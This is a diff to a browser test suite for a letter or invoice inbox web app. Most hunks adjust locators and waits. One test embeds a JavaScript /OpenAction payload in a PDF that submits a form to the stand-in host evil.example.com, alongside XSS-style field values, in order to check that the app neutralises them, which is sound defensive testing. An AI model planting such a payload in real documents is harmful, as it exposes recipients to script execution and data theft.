@@ -39,7 +39,7 @@ def test_letters_come_by_themselves(tabs: Tabs, home: str, send: Any) -> None:
     send("two", "Ola Nordmann")
     page.locator("#letters li").nth(1).wait_for()
     assert names(page) == ["Ola Nordmann", "Kari Nordmann"]
-    assert "2 letters taken" in page.locator("#facts").inner_text()
+    assert "2 letters taken" in page.locator("header").inner_text()
     assert page.get_by_role("row", name="202 The letter is taken 2").is_visible()
     assert "1 new" in page.locator("[role=status]").inner_text()
     page.get_by_role("button", name="Live").click()
@@ -61,6 +61,8 @@ def test_a_letter_is_chosen_by_mouse_and_by_keyboard(tabs: Tabs, home: str, send
     picture.scroll_into_view_if_needed()
     assert picture.evaluate("image => image.decode().then(() => image.naturalWidth)") == 992
     page.locator("#letters a[aria-current]").focus()
+    send("to-Per", "Per")
+    page.locator("#letters").get_by_text("to-Per").wait_for()
     page.keyboard.press("ArrowDown")
     page.keyboard.press("Enter")
     page.get_by_role("heading", name="Kari").wait_for()
@@ -122,14 +124,20 @@ def test_without_java_script_it_is_all_there(
     assert api.get("/sandbox/faults").json()["rates"] == {"503": 0.05}
 
 
-def test_a_hostile_letter_does_no_harm(tabs: Tabs, home: str, send: Any) -> None:
+def test_a_hostile_letter_does_no_harm(
+    tabs: Tabs, home: str, api: httpx.Client, body: Any, pdf: bytes
+) -> None:
+    script = b"/OpenAction<</S/JavaScript/JS(app.alert(1);this.submitForm('//evil.example.com/'))>>"
+    hostile = pdf.replace(b"/Type/Catalog", script + b"/Type/Catalog")
+    name = {"Name": NASTY, "City": NASTY}
     page = tabs.open(home)
     page.on("dialog", lambda dialog: tabs.faults.append(dialog.message))
-    send(NASTY, NASTY, Channel=NASTY, Note=NASTY)
+    letter = body(NASTY, pdf=hostile, Invoicee=name, Channel=NASTY, Note=NASTY)
+    api.post("/send/letter", content=letter).raise_for_status()
     page.locator("#letters a").click()
     page.get_by_role("heading", name="<img src").wait_for()
-    shown = page.locator("body").inner_text()
-    assert not set("\u202e\x1b") & set(shown)
+    page.get_by_role("img", name="Page 1 of 2").wait_for()
+    assert not set("\u202e\x1b") & set(page.locator("body").inner_text())
     assert page.locator("body img:not([src^='/'])").count() == 0
 
 
